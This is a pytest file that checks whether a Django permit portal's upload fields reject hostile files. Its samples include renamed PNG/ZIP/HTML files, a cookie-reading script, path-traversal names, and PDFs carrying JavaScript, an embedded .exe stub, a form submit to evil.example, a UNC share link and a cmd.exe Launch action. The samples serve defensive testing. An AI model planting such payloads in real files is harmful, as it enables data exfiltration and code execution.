"""SEC-02: a corpus of hostile uploads against every upload field, HTML forms and API
endpoints. Each is refused with a clear message (the api.md error shape on the API, the
message on the page for a form); nothing is stored (no row, no file); nothing is written
outside the storage root; a PDF stored under an odd client name is stored under a name the
server made."""

import io
import os
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from accounts.models import Registration, RegistrationDocument
from api_registry.models import ApiApplication
from api_registry.models import ApplicationDocument as ApiDocument
from api_registry.models import REQUIRED_DOCUMENTS, IssuerKind
from sugar_import.models import ApplicationDocument as SugarDocument
from sugar_import.models import ExemptionLetter, MonthlyReport, Recommendation, SugarApplication
from tests.accounts.conftest import VALID_FIELDS
from tests.api_registry.conftest import dinas_dki, province_officer, regency_officer  # noqa: F401 - fixtures
from tests.conftest import token_client
from tests.sugar_import.conftest import (  # noqa: F401 - fixtures
    agency, api_p, dirjen, draft, gkm, industry, line, make_quota, mark_signed, quota, recommendation, sugar_reference,
)

pytestmark = pytest.mark.django_db

LIMIT = 64 * 1024


def make_pdf(*, javascript=False, embedded=False, padding=0) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if javascript:
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert('x');")}
        )
    if embedded:
        writer.add_attachment("payload.exe", b"MZ\x90\x00")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue() + (b"\n%" + b"0" * padding if padding else b"")


LONG_UNICODE = "Ü" * 296 + ".pdf"  # 300 characters
HOSTILE = {
    "renamed-png": ("scan.pdf", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 200),
    "html": ("page.pdf", b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
    "zip": ("archive.pdf", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 200),
    "pdf-openaction-javascript": ("form.pdf", make_pdf(javascript=True)),
    "pdf-embedded-files": ("attachment.pdf", make_pdf(embedded=True)),
    "empty": ("empty.pdf", b""),
    "over-the-limit": ("big.pdf", make_pdf(padding=LIMIT + 1024)),
    "traversal-name-html": ("../../x.pdf", b"<html>hello</html>"),
    "long-unicode-name-zip": (LONG_UNICODE, b"PK\x03\x04" + b"\x00" * 100),
}
# The words of the refusal messages (inatrade/files.py, Django's empty-file message).
REFUSALS = ("harus berupa PDF", "bukan PDF", "memuat JavaScript", "kosong", "terlalu besar")
ODD_NAMES = {"traversal": "../../x.pdf", "windows-traversal": "..\\..\\x.pdf", "long-unicode": LONG_UNICODE}


def hostile(case):
    name, data = HOSTILE[case]
    return SimpleUploadedFile(name, data, content_type="application/pdf")


def pdf(name="dokumen.pdf"):
    return SimpleUploadedFile(name, make_pdf(), content_type="application/pdf")


# --------------------------------------------------------------------------- upload targets
# Each target: (setup(request) -> post(upload) -> response, kind "api"/"html", the field,
# the models whose row count must not change).


def _registration_fields(upload):
    files = {kind: pdf(f"{kind}.pdf") for kind in ("business_licence", "tdp", "npwp_card", "power_of_attorney")}
    files["business_licence"] = upload
    return {**VALID_FIELDS, "jenis_usaha": list(VALID_FIELDS["jenis_usaha"]), **files}


def api_registration(request):
    client = request.getfixturevalue("api_client")
    return lambda upload: client.post("/api/v1/registrations/", _registration_fields(upload), format="multipart")


def html_registration(request):
    client = request.getfixturevalue("client")
    return lambda upload: client.post(reverse("register"), _registration_fields(upload))


def _api_draft(request):
    owner = request.getfixturevalue("owner")
    request.getfixturevalue("regency_officer"), request.getfixturevalue("province_officer")
    client = token_client(owner)
    response = client.post("/api/v1/api-applications/", {"kind": "API-U", "hs_section": "IV", "line_of_business": "Gula"}, format="json")
    assert response.status_code == 201, response.content
    return client, owner, response.json()["id"]


def api_api_document(request):
    client, _, pk = _api_draft(request)
    return lambda upload: client.post(f"/api/v1/api-applications/{pk}/documents", {"kind": REQUIRED_DOCUMENTS[(IssuerKind.DINAS, "API-U")][0], "file": upload}, format="multipart")


def html_api_apply(request):
    owner = request.getfixturevalue("owner")
    request.getfixturevalue("regency_officer"), request.getfixturevalue("province_officer")
    from api_registry.models import HsSection

    client = request.getfixturevalue("client")
    client.force_login(owner)
    kinds = REQUIRED_DOCUMENTS[(IssuerKind.DINAS, "API-U")]

    def post(upload):
        data = {"kind": "API-U", "hs_section": HsSection.objects.get(roman="IV").pk, "line_of_business": "Gula", "directors": "Siti"}
        data.update({f"doc_{kind}": pdf(f"{kind}.pdf") for kind in kinds})
        data[f"doc_{kinds[0]}"] = upload
        return client.post(reverse("api-apply"), data)

    return post


def _sugar_draft(request):
    """A KITE application: its purpose asks for documents (PI-02)."""
    from datetime import date

    from sugar_import import services
    from sugar_import.models import Purpose

    owner = request.getfixturevalue("owner")
    request.getfixturevalue("api_p")
    gkm = request.getfixturevalue("gkm")
    kite = Purpose.objects.get(code="kite")
    make_quota(kite, gkm)
    application = services.sugar_application_create(
        actor=owner, purpose=kite, sugar_type=gkm, lines=[line()], period_from=date(2026, 1, 1), period_until=date(2099, 6, 30))
    return owner, application, "kite_decision"


def api_sugar_document(request):
    owner, application, kind = _sugar_draft(request)
    client = token_client(owner)
    return lambda upload: client.post(f"/api/v1/sugar/applications/{application.pk}/documents", {"kind": kind, "file": upload}, format="multipart")


def html_sugar_document(request):
    owner, application, kind = _sugar_draft(request)
    client = request.getfixturevalue("client")
    client.force_login(owner)
    return lambda upload: client.post(reverse("sugar-application-document", args=[application.pk]), {"kind": kind, "file": upload}, follow=True)


def api_sugar_recommendation(request):
    request.getfixturevalue("sugar_reference")
    client = token_client(request.getfixturevalue("owner"))
    payload = {"kind": "recommendation", "issuer": "Kementerian Perindustrian", "number": "REK-9", "date": "2026-02-01",
               "sugar_type": "GKM", "volume_tonnes": "10", "hs_codes": "1701.14.00", "origin_countries": "BR,TH",
               "ports": "IDTPP", "valid_from": "2026-01-01", "valid_until": "2026-12-31"}
    return lambda upload: client.post("/api/v1/sugar/recommendations/", {**payload, "file": upload}, format="multipart")


def api_verify(request):
    client = request.getfixturevalue("api_client")
    return lambda upload: client.post("/api/v1/verify/", {"file": upload}, format="multipart")


def html_verify(request):
    client = request.getfixturevalue("client")
    return lambda upload: client.post(reverse("permit-verify"), {"file": upload})


def api_sugar_exemption(request):
    """The declaration is refused after the recommendation passed: neither may be stored."""
    client = token_client(request.getfixturevalue("counter_officer"))
    data = {"applicant_name": "Pusat Penelitian Gula", "identity_number": "3171010101800001",
            "recommendation_reference": "Surat BRIN 12/2026", "goods_description": "Gula untuk uji",
            "hs_code": "1701.14.00", "quantity_kg": "25", "self_declaration": "true"}
    return lambda upload: client.post("/api/v1/sugar/exemptions/", {**data, "recommendation_file": pdf(), "declaration_file": upload}, format="multipart")


def html_sugar_recommendation(request):
    request.getfixturevalue("sugar_reference")
    client = request.getfixturevalue("client")
    client.force_login(request.getfixturevalue("owner"))
    data = {"kind": "recommendation", "issuer": "Kementerian Perindustrian", "number": "REK-PDF-1", "date": "2026-01-10",
            "sugar_type": "GKM", "volume_tonnes": "800", "hs_codes": "1701.14.00", "origin_countries": ["BR"],
            "ports": ["IDTPP"], "valid_from": "2026-01-01", "valid_until": "2026-12-31"}
    return lambda upload: client.post("/sugar/recommendations/", {**data, "file": upload})


def _submitted_api_application(request):
    from tests.api_registry.conftest import submitted_application

    owner = request.getfixturevalue("owner")
    officer = request.getfixturevalue("regency_officer")
    request.getfixturevalue("province_officer")
    return submitted_application(owner), officer


def api_api_inspection(request):
    application, officer = _submitted_api_application(request)
    client = token_client(officer)
    return lambda upload: client.post(f"/api/v1/api-applications/{application.pk}/inspection",
                                      {"result": "sesuai", "notes": "OK", "bap_number": "BAP-1", "bap_file": upload}, format="multipart")


def html_api_inspection(request):
    application, officer = _submitted_api_application(request)
    client = request.getfixturevalue("client")
    client.force_login(officer)
    return lambda upload: client.post(reverse("api-application-action", args=[application.pk, "inspection"]),
                                      {"result": "sesuai", "notes": "OK", "bap_number": "BAP-1", "bap_file": upload}, follow=True)


def api_sugar_monthly_report(request):
    import json

    from sugar_import.models import SugarPermit

    owner = request.getfixturevalue("owner")
    request.getfixturevalue("api_p"), request.getfixturevalue("quota")
    application = draft(owner, request.getfixturevalue("recommendation"))
    client = token_client(owner)
    assert client.post(f"/api/v1/sugar/applications/{application.pk}/submit").status_code == 200
    number = token_client(request.getfixturevalue("dirjen")).post(f"/api/v1/sugar/applications/{application.pk}/approve").json()["number"]
    sp = mark_signed(SugarPermit.objects.get(number=number))
    shipments = [{"pib_number": "123456", "pib_date": sp.valid_from.isoformat(), "hs_code": "1701.14.00", "volume_tonnes": "700"}]
    data = {"period": sp.valid_from.strftime("%Y-%m"), "nil_report": "false", "destination": "Pabrik sendiri",
            "shipments": json.dumps(shipments)}
    return lambda upload: client.post(f"/api/v1/sugar/permits/{number}/reports", {**data, "pib_file_0": upload}, format="multipart")


def html_sugar_manual_application(request):
    """PI-10: a UPTP I officer enters a paper application with the scanned letter."""
    company = request.getfixturevalue("company")
    request.getfixturevalue("api_p"), request.getfixturevalue("quota")
    recommendation = request.getfixturevalue("recommendation")
    client = request.getfixturevalue("client")
    client.force_login(request.getfixturevalue("counter_officer"))
    data = {"purpose": "industry", "sugar_type": "GKM", "hs_code_0": "1701.14.00", "description_0": "Raw sugar",
            "volume_0": "1500", "origin_0": "BR", "port_0": "IDTPP", "recommendation": recommendation.pk,
            "company_nib": company.nib}
    return lambda upload: client.post("/sugar/applications/new/", {**data, "manual_letter": upload})


TARGETS = {
    "html-sugar-manual-application": (html_sugar_manual_application, "html", "manual_letter", [SugarApplication]),
    "api-sugar-monthly-report-pib": (api_sugar_monthly_report, "api", "pib_file", [MonthlyReport]),
    "api-sugar-exemption": (api_sugar_exemption, "api", "declaration_file", [ExemptionLetter]),
    "html-sugar-recommendation": (html_sugar_recommendation, "html", "file", [Recommendation]),
    "api-api-inspection-bap": (api_api_inspection, "api", "bap_file", []),
    "html-api-inspection-bap": (html_api_inspection, "html", "bap_file", []),
    "api-registration": (api_registration, "api", "business_licence", [Registration, RegistrationDocument]),
    "html-registration": (html_registration, "html", "business_licence", [Registration, RegistrationDocument]),
    "api-api-application-document": (api_api_document, "api", "file", [ApiDocument]),
    "html-api-apply": (html_api_apply, "html", "doc_", [ApiApplication, ApiDocument]),
    "api-sugar-application-document": (api_sugar_document, "api", "file", [SugarDocument]),
    "html-sugar-application-document": (html_sugar_document, "html", "file", [SugarDocument]),
    "api-sugar-recommendation": (api_sugar_recommendation, "api", "file", [Recommendation]),
    "api-verify": (api_verify, "api", "file", []),
    "html-verify": (html_verify, "html", "file", []),
}


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


@pytest.fixture
def small_limit(settings):
    settings.UPLOAD_MAX_BYTES = LIMIT
    settings.POWER_OF_ATTORNEY_MAX_BYTES = LIMIT


@pytest.mark.parametrize("case", list(HOSTILE))
@pytest.mark.parametrize("target", list(TARGETS))
def test_it_refuses_a_hostile_upload_and_stores_nothing__SEC_02(request, small_limit, tmp_path, target, case):
    setup, kind, field, models = TARGETS[target]
    post = setup(request)
    rows = {model: model.objects.count() for model in models}
    files = _files(tmp_path)
    cwd_files = set(os.listdir(tmp_path.parent)) | set(os.listdir("."))

    response = post(hostile(case))

    assert response.status_code < 500
    if kind == "api":
        assert response.status_code in (400, 413, 415), (response.status_code, response.content[:300])
        error = response.json()["error"]
        assert error["code"] and error["message"], error
        if target != "api-verify":
            assert any(name.startswith(field) for name in error["fields"]), error  # names the refused field
    else:
        assert response.status_code in (200, 400, 413, 415)  # the form again, with the message
        page = response.content.decode()
        assert any(reason in page for reason in REFUSALS), page[:500]
    assert {model: model.objects.count() for model in models} == rows
    new_files = _files(tmp_path) - files
    if target == "html-registration":
        # The registration form keeps the accepted uploads for the session, so that they are
        # not lost with a refused submission (issue 17); the refused one is never kept.
        kept = {p for p in new_files if "tmp/registration/" in p.as_posix()}
        assert len(kept) == 3 and all(p.read_bytes() != hostile(case).read() for p in kept)
        new_files -= kept
    assert not new_files, "a refused upload left a file behind"
    assert set(os.listdir(tmp_path.parent)) | set(os.listdir(".")) <= cwd_files
    assert not any("x.pdf" == p.name or "Ü" in str(p) for p in _files(tmp_path))


@pytest.mark.parametrize("name", list(ODD_NAMES.values()), ids=list(ODD_NAMES))
@pytest.mark.parametrize("target", ["api-api-application-document", "api-sugar-application-document", "api-registration"])
def test_a_pdf_with_an_odd_client_name_is_stored_under_a_name_the_server_makes__SEC_02(request, tmp_path, target, name):
    setup, _, _, models = TARGETS[target]
    post = setup(request)
    before = _files(tmp_path)
    response = post(SimpleUploadedFile(name, make_pdf(), content_type="application/pdf"))
    assert response.status_code in (200, 201), response.content[:300]
    new = _files(tmp_path) - before
    assert new, "the PDF was stored"
    root = tmp_path / "private"
    for path in new:
        assert path.resolve().is_relative_to(root.resolve())
        assert "x.pdf" not in path.name and "Ü" not in str(path) and ".." not in str(path.relative_to(root))
    assert not (tmp_path.parent / "x.pdf").exists() and not Path("x.pdf").exists()


# --------------------------------------------------------------------------- active content
# Issue 15 item 3: the object scan stopped after 20,000 objects, and file attachment
# annotations and actions that leave the document or send data were accepted. One function
# (inatrade.files.validate_pdf_upload) guards every upload field; its corpus is below.


def _pdf_with(build) -> bytes:
    from pypdf.generic import ArrayObject

    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    build(writer, ArrayObject)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind, **entries):
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value) if isinstance(value, str) else value
    return action


def _open_action(action):
    return lambda writer, _: writer._root_object.__setitem__(NameObject("/OpenAction"), writer._add_object(action))


def _link_annotation(action, subtype="/Link", **extra):
    def build(writer, ArrayObject):
        from pypdf.generic import FloatObject

        annotation = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
            NameObject("/Rect"): ArrayObject([FloatObject(0), FloatObject(0), FloatObject(100), FloatObject(100)]),
        })
        if action is not None:
            annotation[NameObject("/A")] = action
        for key, value in extra.items():
            annotation[NameObject(f"/{key}")] = value
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return build


def _file_attachment_annotation():
    from pypdf.generic import DecodedStreamObject

    stream = DecodedStreamObject()
    stream.set_data(b"MZ\x90\x00payload")
    filespec = DictionaryObject({
        NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("payload.exe"),
        NameObject("/EF"): DictionaryObject({NameObject("/F"): stream}),
    })
    return _link_annotation(None, subtype="/FileAttachment", FS=filespec)


def _javascript_after_20000_objects(writer, ArrayObject):
    """The action sits behind 25,000 harmless entries that the old scan spent its budget on."""
    from pypdf.generic import NumberObject

    root = writer._root_object
    root[NameObject("/OpenAction")] = writer._add_object(_action("/JavaScript", JS="app.alert(1)"))
    root[NameObject("/ZZPadding")] = ArrayObject(
        [writer._add_object(DictionaryObject({NameObject("/N"): NumberObject(i)})) for i in range(25_000)])


ACTIVE = {
    "attachment-annotation-EF": _file_attachment_annotation(),
    "submit-form": _open_action(_action("/SubmitForm", F="https://evil.example/collect")),
    "goto-remote": _open_action(_action("/GoToR", F="\\\\evil.example\\share\\x.pdf")),
    "import-data": _open_action(_action("/ImportData", F="data.fdf")),
    "launch": _link_annotation(_action("/Launch", F="cmd.exe")),
    "uri-link": _link_annotation(_action("/URI", URI="https://evil.example/phish")),
    "javascript-after-20000-objects": _javascript_after_20000_objects,
}


@pytest.mark.parametrize("case", list(ACTIVE))
def test_the_upload_check_refuses_active_or_outward_pdf_content__SEC_02(case):
    from inatrade.files import UploadRefused, validate_pdf_upload

    data = _pdf_with(ACTIVE[case])
    with pytest.raises(UploadRefused) as refused:
        validate_pdf_upload(SimpleUploadedFile("x.pdf", data), max_bytes=5 * 1024 * 1024)
    assert refused.value.code == "pdf_active_content"


def test_the_upload_check_still_accepts_a_plain_pdf_with_internal_links__SEC_02():
    from pypdf.generic import ArrayObject, NullObject

    from inatrade.files import validate_pdf_upload

    def build(writer, _):
        page = writer.pages[0].indirect_reference
        goto = _action("/GoTo", D=ArrayObject([page, NameObject("/Fit")]))
        _link_annotation(goto)(writer, ArrayObject)

    data = _pdf_with(build)
    assert validate_pdf_upload(SimpleUploadedFile("x.pdf", data)) == data
    assert NullObject  # noqa: B018


@pytest.mark.parametrize("case", ["attachment-annotation-EF", "submit-form", "uri-link"])
@pytest.mark.parametrize("target", list(TARGETS))
def test_every_upload_field_refuses_active_pdf_content__SEC_02(request, target, case):
    setup, kind, _, models = TARGETS[target]
    post = setup(request)
    rows = {model: model.objects.count() for model in models}
    response = post(SimpleUploadedFile("x.pdf", _pdf_with(ACTIVE[case]), content_type="application/pdf"))
    if kind == "api":
        assert response.status_code == 415, (response.status_code, response.content[:300])
        assert response.json()["error"]["code"]
    else:
        assert "memuat JavaScript" in response.content.decode()
    assert {model: model.objects.count() for model in models} == rows
